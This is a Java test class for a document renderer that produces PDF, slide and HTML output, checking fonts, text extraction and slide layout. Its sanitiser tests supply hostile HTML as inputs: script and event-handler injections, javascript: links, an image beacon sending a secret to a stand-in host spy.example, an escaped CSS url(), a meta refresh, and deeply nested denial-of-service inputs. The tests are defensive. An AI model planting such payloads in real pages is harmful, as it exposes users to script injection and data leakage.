package dev.parley.document.render;

import static dev.parley.document.render.RenderedFormat.HTML;
import static dev.parley.document.render.RenderedFormat.PDF;
import static dev.parley.document.render.RenderedFormat.SLIDES;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.font.PDFont;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xslf.usermodel.XSLFShape;
import org.apache.poi.xslf.usermodel.XSLFTextShape;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Rendered files, read back by independent programs where available. */
class RenderedFormatTest {
    private static final String REPORT = """
            # Stock report

            Grüße, Καλημέρα, Здравствуйте — *all* **three** scripts.

            | Item | Count |
            |---|---:|
            | Bolts | 12 |
            | Nuts | 7 |

            ## Next steps

            - order bolts
              - before Friday
            - count again

            ```
            total = 19
            ```
            """;

    private static byte[] render(RenderedFormat format, String text) throws UnrenderableText {
        return format.render("report", text);
    }

    @Test
    void aPdfHasTheTextInEmbeddedFontsOfThreeScripts() throws Exception {
        try (PDDocument document = Loader.loadPDF(render(PDF, REPORT))) {
            assertThat(new PDFTextStripper().getText(document))
                    .contains(
                            "Stock report", "Grüße, Καλημέρα, Здравствуйте", "Bolts 12", "before Friday", "total = 19");
            for (var name : document.getPage(0).getResources().getFontNames()) {
                PDFont font = document.getPage(0).getResources().getFont(name);
                assertThat(font.isEmbedded()).as(font.getName()).isTrue();
            }
        }
    }

    @Test
    void popplerReadsThePdfWhereItIsInstalled() throws Exception {
        Path pdf = Files.createTempFile("parley", ".pdf");
        try {
            Files.write(pdf, render(PDF, REPORT));
            Process poppler = new ProcessBuilder(
                            "sh", "-c", "command -v pdftotext || exit 3; pdftotext -layout \"$0\" -", pdf.toString())
                    .start();
            String text = new String(poppler.getInputStream().readAllBytes(), UTF_8);
            org.junit.jupiter.api.Assumptions.assumeTrue(poppler.waitFor() != 3, "no pdftotext");
            assertThat(text).contains("Stock report", "Здравствуйте", "Nuts");
        } finally {
            Files.delete(pdf);
        }
    }

    @Test
    void slidesStartAtHeadingsAndOverflowToTheNext() throws Exception {
        String text = REPORT + "\n## Long\n" + "- a point\n".repeat(25);
        try (var show = new XMLSlideShow(new ByteArrayInputStream(render(SLIDES, text)))) {
            List<String> titles = show.getSlides().stream()
                    .map(slide -> String.valueOf(slide.getTitle()))
                    .toList();
            assertThat(titles).containsExactly("Stock report", "Next steps", "Long", "Long", "Long");
            List<String> second = new ArrayList<>();
            for (XSLFShape shape : show.getSlides().get(1).getShapes()) {
                if (shape instanceof XSLFTextShape words) {
                    second.addAll(words.getText().lines().toList());
                }
            }
            assertThat(second)
                    .containsExactly("Next steps", "order bolts", "before Friday", "count again", "total = 19");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "---\n---", "plain words", "# only a title"})
    void everyTextMakesAPresentationAndAPdf(String text) throws Exception {
        try (var show = new XMLSlideShow(new ByteArrayInputStream(render(SLIDES, text)))) {
            assertThat(show.getSlides()).isNotEmpty();
        }
        try (PDDocument document = Loader.loadPDF(render(PDF, text))) {
            assertThat(document.getNumberOfPages()).isEqualTo(1);
        }
    }

    @Test
    void htmlKeepsTextAndLosesActiveAndExternalContent() throws Exception {
        String page = new String(render(HTML, """
                <h1 onclick="steal()">Hi</h1><script>steal()</script><img src="https://spy.example/?secret=1">
                <a href="javascript:steal()">a</a><a href="https://ok.example/">b</a>
                <style>p { background: url(https://spy.example/) }</style><p style="background:u\\72l(//spy.example)">x</p>
                <img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"><svg onload="steal()"></svg>
                <meta http-equiv="refresh" content="0; url=https://spy.example"><iframe srcdoc="x"></iframe>"""), UTF_8);
        assertThat(page)
                .startsWith("<!doctype html>")
                .contains("Hi", "https://ok.example/", "data:image/png", "charset")
                .doesNotContain("steal", "spy.example", "iframe", "refresh");
    }

    @Test
    void aPdfFetchesNothingAndAStyleCannotAskForEndlessPaper() throws Exception {
        try (var receiver = new java.net.ServerSocket(0, 5, java.net.InetAddress.getLoopbackAddress())) {
            String url = "http://127.0.0.1:" + receiver.getLocalPort() + "/x";
            byte[] pdf = render(
                    PDF,
                    "<html><body style='height: 99999999px'><img src='" + url + "'>"
                            + "<style>@import url('" + url
                            + "'); p { height: 9999999px; page-break-after: always }"
                            + "</style><link rel=stylesheet href='" + url + "'><p>words</p></body></html>");
            receiver.setSoTimeout(200);
            assertThatThrownBy(receiver::accept).isInstanceOf(java.net.SocketTimeoutException.class);
            try (PDDocument document = Loader.loadPDF(pdf)) {
                assertThat(document.getNumberOfPages()).isEqualTo(1);
            }
        }
    }

    @Test
    void rawHtmlInMarkdownIsEscaped() throws Exception {
        try (PDDocument document = Loader.loadPDF(render(PDF, "hello <script>steal()</script>"))) {
            assertThat(new PDFTextStripper().getText(document)).contains("<script>");
        }
    }

    @Test
    void absurdNestingIsRefused() {
        for (String deep : List.of("<html><body>" + "<div>".repeat(60_000), "> ".repeat(3_000) + "x")) {
            assertThatThrownBy(() -> render(PDF, deep)).isInstanceOf(UnrenderableText.class);
        }
    }
}
